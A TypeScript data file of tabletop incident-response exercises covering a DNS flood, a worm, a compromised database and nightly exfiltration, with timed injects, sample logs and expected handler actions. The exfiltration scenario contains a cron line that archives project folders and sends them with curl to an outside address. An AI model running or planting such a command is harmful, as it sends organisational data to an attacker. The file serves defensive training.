import type { Scenario } from "../scenario.ts";

/** Attacks from outside on services that the organisation offers. */
export const ATTACKS: readonly Scenario[] = [
  {
    key: "dns-flood",
    title: "The name server drowns",
    about:
      "Denial of service against a DNS server: telling an attack from a fault, and working with the upstream",
    vector: "attrition",
    minutes: 90,
    situation:
      "It is a Saturday afternoon. People outside complain that your web site cannot be found. Inside, everything seems to work. The server that answers for your names to the world is very slow.",
    objectives: [
      "Tell an attack from a fault with what is at hand, and say how sure we are",
      "Reach the upstream provider and ask for what only they can do",
      "Keep those who depend on the service informed",
    ],
    injects: [
      {
        minute: 0,
        way: "phone",
        text: "The service desk: eleven callers within ten minutes cannot reach our web site; all of them are outside.",
        raw: "",
        expected:
          "The handler opens the log, asks for times and networks of the callers, and looks at the name server.",
      },
      {
        minute: 15,
        way: "sign",
        text: "The border router's counters for UDP port 53 are forty times their usual value.",
        raw: "14:32:10 in  udp/53  198.51.100.0/24 -> 192.0.2.53   412,118 packets/s\n14:32:10 out udp/53  192.0.2.53 -> any                 1,204 packets/s",
        expected:
          "Recognised as a flood; sources may be forged. Counters are kept as evidence with their clock's offset.",
      },
      {
        minute: 40,
        way: "phone",
        text: "The upstream provider's night shift asks: who are you, and may you ask for filters at all?",
        raw: "",
        expected:
          "The call sheet and the authority matrix answer it; the request is written down word for word.",
      },
      {
        minute: 65,
        way: "mail",
        text: "Another site writes that your name server attacks theirs, and asks you to stop.",
        raw: "",
        expected:
          "Thought of: answers to forged requests (amplification). Answered through the notification page.",
      },
    ],
    questions: [
      "To whom do the failing names belong that others depend on?",
      "What do we know about the provider's means, and is it agreed in a contract?",
    ],
    variations: [
      "The attack comes from inside your own network.",
      "It stops by itself after an hour and comes back on Monday at nine.",
    ],
  },
  {
    key: "worm",
    title: "A worm that brings a flood along",
    about: "A worm spreads through removable media and shares and leaves agents for denial of service behind",
    vector: "removable_media",
    minutes: 120,
    situation:
      "On a Tuesday morning a new worm makes the rounds: it copies itself to removable media and open shares, and installs an agent that waits for orders to flood others. Your antivirus vendor has no signature yet.",
    objectives: [
      "Find what is infected before there is a signature",
      "Decide what to cut off, and be able to say what that costs",
      "Keep our own hosts from attacking others",
    ],
    injects: [
      {
        minute: 0,
        way: "report",
        text: "Somebody in accounting: “since I plugged in the stick from the trade fair, my computer is slow.”",
        raw: "",
        expected:
          "The stick and the computer are secured; the scope is opened; nobody cleans before a copy is taken.",
      },
      {
        minute: 20,
        way: "sign",
        text: "Seven more hosts write the same file to every share that they can reach.",
        raw: "07:41:02 files1 WRITE \\\\files1\\common\\autorun.inf by lab-7\n07:41:02 files1 WRITE \\\\files1\\common\\thumbs.exe by lab-7\n07:41:09 files1 WRITE \\\\files1\\plan\\thumbs.exe by pc-112",
        expected:
          "Scope grows to these hosts; the file's digest is promoted as an observable and searched for.",
      },
      {
        minute: 50,
        way: "person",
        text: "The head of production: “if you cut off network B, the line stands still. Who pays for that?”",
        raw: "",
        expected:
          "The policy's row for isolating production is followed; consent is asked for with consequence and alternative.",
      },
      {
        minute: 80,
        way: "mail",
        text: "A university abroad: 60 of your addresses have been flooding us since 08:30 UTC.",
        raw: "",
        expected:
          "Outgoing floods are stopped at the border first; the university is answered with a reference and a call-back.",
      },
    ],
    questions: [
      "How would we find infected hosts that are switched off or abroad at the moment?",
      "What would we do if the fix needed every computer to be restarted at noon?",
    ],
    variations: [
      "The worm arrives at 23:00 on the day before a holiday.",
      "One infected host controls a machine in production.",
    ],
  },
  {
    key: "database",
    title: "Somebody else in the database",
    about:
      "A database server is compromised: finding out what was read and changed, and whether backups can be trusted",
    vector: "web",
    minutes: 120,
    situation:
      "On a Tuesday night, a database administrator works on a server off hours and finds directories with odd names. A look at the accounts shows one that nobody made, with every right.",
    objectives: [
      "Keep what is volatile before anything is changed",
      "Find out since when, and whether data was read or altered",
      "Choose a restore point that can be trusted, and say why",
    ],
    injects: [
      {
        minute: 0,
        way: "phone",
        text: "The administrator: “there is an account called svc_rpt that none of us made. Shall I delete it?”",
        raw: "",
        expected:
          "No. Who may decide is looked up; volatile data are collected first; the call is written down.",
      },
      {
        minute: 25,
        way: "sign",
        text: "The database's audit trail of the last nine days.",
        raw: "11-12 02:14:07Z svc_rpt@203.0.113.9 SELECT * FROM customer LIMIT 50000\n11-12 02:15:31Z svc_rpt@203.0.113.9 SELECT * FROM customer OFFSET 50000\n11-19 02:10:44Z svc_rpt@203.0.113.9 UPDATE price SET …",
        expected:
          "Earliest sign of intrusion moves to 12 November; personal data is among the impact; the rating is amended.",
      },
      {
        minute: 55,
        way: "person",
        text: "Management: “restore last night's backup and be done by six.”",
        raw: "",
        expected:
          "The newest backup is from after the intrusion; the restore-point page says which ones are candidates.",
      },
      {
        minute: 85,
        way: "press",
        text: "A journalist asks the switchboard whether customer data were stolen.",
        raw: "",
        expected:
          "Nobody but those whom the policy names speaks to the press; legal is asked about the duty to report.",
      },
    ],
    questions: [
      "Which other systems use the same credentials or trust this server?",
      "How would we show that data was not altered?",
    ],
    variations: ["The server belongs to a service provider.", "The intruder is connected while you look."],
  },
  {
    key: "exfiltration",
    title: "Something leaves every night",
    about: "Data leaves, and nobody knows which: working from network traffic back to hosts and files",
    vector: "unknown",
    minutes: 120,
    situation:
      "On a Sunday night an intrusion sensor alerts on large transfers from a server inside to an address outside. The transfers are encrypted. The server holds files of several departments.",
    objectives: [
      "Decide whether to cut off at once or to watch, with the authority to do so",
      "Find out which data it was as far as that can be known",
      "Write down what is fact and what is guess",
    ],
    injects: [
      {
        minute: 0,
        way: "sign",
        text: "Sensor: outgoing volume far above its usual value, third night in a row.",
        raw: "02:00:11 192.0.2.33:51544 -> 203.0.113.77:443 tls  4.1 GB  sni=cdn-sync.example",
        expected:
          "Looked up: seen before, own history of the address; earlier nights are searched in the flows.",
      },
      {
        minute: 20,
        way: "person",
        text: "An engineer proposes to let it run “to see what they are after”.",
        raw: "",
        expected:
          "Watching has limits in the policy: who decides, until when, and what may not be lost meanwhile.",
      },
      {
        minute: 50,
        way: "sign",
        text: "On the server, a task that starts at 02:00 and packs folders into one file.",
        raw: "/etc/cron.d/sync: 0 2 * * * root /usr/lib/sync/.s -k /srv/projects | curl -T - https://203.0.113.77/u",
        expected:
          "Disk and memory are copied before the task is stopped; the master copy says what does not belong there.",
      },
      {
        minute: 85,
        way: "mail",
        text: "The owner of one project asks whether the partner's documents were among it. There is an agreement of secrecy.",
        raw: "",
        expected:
          "What is told is picked from the log with its marking; what is not known is said to be not known.",
      },
    ],
    questions: [
      "How would we know what was in the encrypted transfers?",
      "Which other hosts spoke to the same address?",
    ],
    variations: [
      "The address belongs to a partner of yours.",
      "The transfers go to removable media instead.",
    ],
  },
];
